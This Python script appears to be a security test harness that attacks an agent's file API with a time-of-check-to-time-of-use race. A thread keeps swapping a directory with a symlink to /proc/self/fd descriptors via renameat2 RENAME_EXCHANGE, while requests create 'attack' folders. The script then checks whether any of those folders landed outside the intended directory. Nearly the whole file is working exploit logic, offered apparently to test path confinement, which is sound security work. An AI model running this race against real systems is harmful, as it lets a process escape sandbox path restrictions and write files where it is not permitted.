# Swaps a directory for a link into the file API's descriptors between its look and its deed.
# Control: a file API that opens what it is told

import tempfile
import threading
import time

RENAME_EXCHANGE = 2


def swap(place, aside, stop):
    while not stop.is_set():
        libc.renameat2(AT_FDCWD, place.encode(), AT_FDCWD, aside.encode(), RENAME_EXCHANGE)


def careful_call():
    """The careless one has a call that looks first; that is the one to race with."""
    call = "filesystem.Filesystem/MakeDirAfterALook"
    is_there = ask_agent(call, path=os.path.join(tempfile.mkdtemp(), "new"))
    return "filesystem.Filesystem/MakeDir" if is_there is None else call


def attempt():
    call = careful_call()
    end, number = time.monotonic() + 20, 0
    for descriptor in list(range(3, 24)) * 100:
        top = tempfile.mkdtemp()
        place, aside = os.path.join(top, "place"), os.path.join(top, "aside")
        os.mkdir(place)
        os.symlink(f"/proc/self/fd/{descriptor}", aside)
        stop = threading.Event()
        swapper = threading.Thread(target=swap, args=(place, aside, stop))
        swapper.start()
        made = set()
        for number in range(number, number + 40):
            name = f"attack-{os.getpid()}-{number}"
            if ask_agent(call, path=f"{place}/{name}") is not None:
                made.add(name)
        stop.set()
        swapper.join()
        real = aside if os.path.islink(place) else place
        if missing := made - set(os.listdir(real)):
            return f"{len(missing)} of {len(made)} folders were made behind descriptor {descriptor}"
        if time.monotonic() > end:
            break
    return None


attack(attempt)
